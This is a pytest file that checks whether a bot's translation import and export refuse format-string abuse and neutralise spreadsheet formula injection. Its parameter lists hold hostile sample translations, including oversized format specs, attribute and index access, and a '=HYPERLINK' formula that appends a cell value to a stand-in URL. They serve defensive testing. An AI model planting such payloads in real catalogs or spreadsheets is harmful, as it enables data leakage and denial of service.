"""A careless or hostile translation cannot break the bot or plant formulas (issue 15, point 3).

Only the exact placeholders of the msgid (`{name}`: no attribute, index, conversion or format spec) get
into a catalog, through the sheet or through `make test`; rendering never raises and never builds a
huge string whatever a compiled catalog holds; the sheet neutralises cells a spreadsheet would evaluate,
and reading it back refuses them.
"""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest
from babel.messages.pofile import read_po, write_po

from bot.catalogs import export_sheet, import_sheet
from dialogs import i18n
from dialogs.i18n import N_, NN_, render
from tests.unit.catalog_sheets import exported_rows, sheet_of

MSGID = "When did you move to {town}?"


BAD_TRANSLATIONS = [
    pytest.param("Goorma {town} {town.nope}?", id="attribute"),
    pytest.param("Goorma {town} {town:>300000000}?", id="format spec"),
    pytest.param("Goorma {town:>3000}?", id="format spec alone"),
    pytest.param("Goorma {town} {town[0]}?", id="index"),
    pytest.param("Goorma {town!r}?", id="conversion"),
    pytest.param("Goorma {town} {0}?", id="positional"),
    pytest.param("Goorma {town} {}?", id="empty field"),
    pytest.param("Goorma {town} {{town}}?", id="escaped braces"),
    pytest.param("Goorma {town}} ?", id="stray brace"),
    pytest.param("Goorma {Town} {town}?", id="a name not in the msgid"),
    pytest.param('=HYPERLINK("http://example.invalid/?"&A1,"{town}")', id="formula ="),
    pytest.param("+{town} goorma?", id="formula +"),
    pytest.param("-1+{town}", id="formula -"),
    pytest.param("@SUM(1) {town}", id="formula @"),
    pytest.param("\t=1+1 {town}", id="formula after a tab"),
]


@pytest.mark.parametrize("bad", BAD_TRANSLATIONS)
def test_the_sheet_refuses_anything_but_the_exact_placeholders(locales: Path, bad: str) -> None:
    rows = exported_rows("so", locales)
    row = next(r for r in rows if r["msgid"] == MSGID)
    before = row["translation"]
    row["translation"] = bad
    result = import_sheet("so", sheet_of(rows), locales)
    assert result.updated == 0 and result.refused and "move to" in result.refused[0], result
    after = next(r for r in exported_rows("so", locales) if r["msgid"] == MSGID)
    assert after["translation"] == before


@pytest.mark.parametrize("bad", BAD_TRANSLATIONS)
def test_make_test_refuses_anything_but_the_exact_placeholders(bad: str) -> None:
    from bot.catalogs import translation_problem

    assert translation_problem(MSGID, bad) is not None
    assert translation_problem(MSGID, "Goorma ayaad u soo guurtay {town}?") is None


class _Planted:
    """A compiled catalog whose every entry is `text` (what a bad import would have put there)."""

    def __init__(self, text: str) -> None:
        self.text = text

    def gettext(self, _msgid: str) -> str:
        return self.text

    def pgettext(self, _context: str, _msgid: str) -> str:
        return self.text

    def ngettext(self, _singular: str, _plural: str, _n: int) -> str:
        return self.text

    def npgettext(self, _context: str, _singular: str, _plural: str, _n: int) -> str:
        return self.text


@pytest.mark.parametrize(
    "planted",
    [
        "Ditt ärendenummer är {reference.upper}.",
        "Ditt ärendenummer är {reference:>5000000}.",
        "Ditt ärendenummer är {reference:{reference}}.",
        "Ditt ärendenummer är {reference[0]} {0} {}.",
        "Ditt ärendenummer är {reference!r} {nope}.",
        "Ditt ärendenummer är {reference} {",
        "{reference}" * 200_000,
    ],
)
@pytest.mark.parametrize("language", ["sv", "ar"])
def test_rendering_never_raises_or_blows_up(monkeypatch: pytest.MonkeyPatch, planted: str, language: str) -> None:
    monkeypatch.setattr(i18n, "translations", lambda _language: _Planted(planted))
    start = time.perf_counter()
    shown = render(N_("Your case number is {reference}.", reference="SOL-2026-0042"), language)
    plural = render(NN_("{n} day", "{n} days", 3), language)
    assert time.perf_counter() - start < 1.0
    assert "SOL-2026-0042" in shown and len(shown) < 10_000, shown[:200]
    assert "3" in plural and len(plural) < 10_000


def test_the_sheet_neutralises_cells_a_spreadsheet_would_evaluate(locales: Path) -> None:
    path = locales / "so" / "LC_MESSAGES" / "messages.po"
    with open(path, "rb") as fh:
        catalog = read_po(fh)
    planted = '=HYPERLINK("http://example.invalid","{town}")'
    catalog.get(MSGID).string = planted  # as an old import let it in
    with open(path, "wb") as fh:
        write_po(fh, catalog)
    out = io.StringIO()
    export_sheet("so", out, locales)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "no cell starts a formula"
    row = next(r for r in exported_rows("so", locales) if r["msgid"] == MSGID)
    assert row["translation"] == "'" + planted
    result = import_sheet("so", sheet_of(exported_rows("so", locales)), locales)
    assert result.refused and "move to" in result.refused[0], "read back, it is still refused"
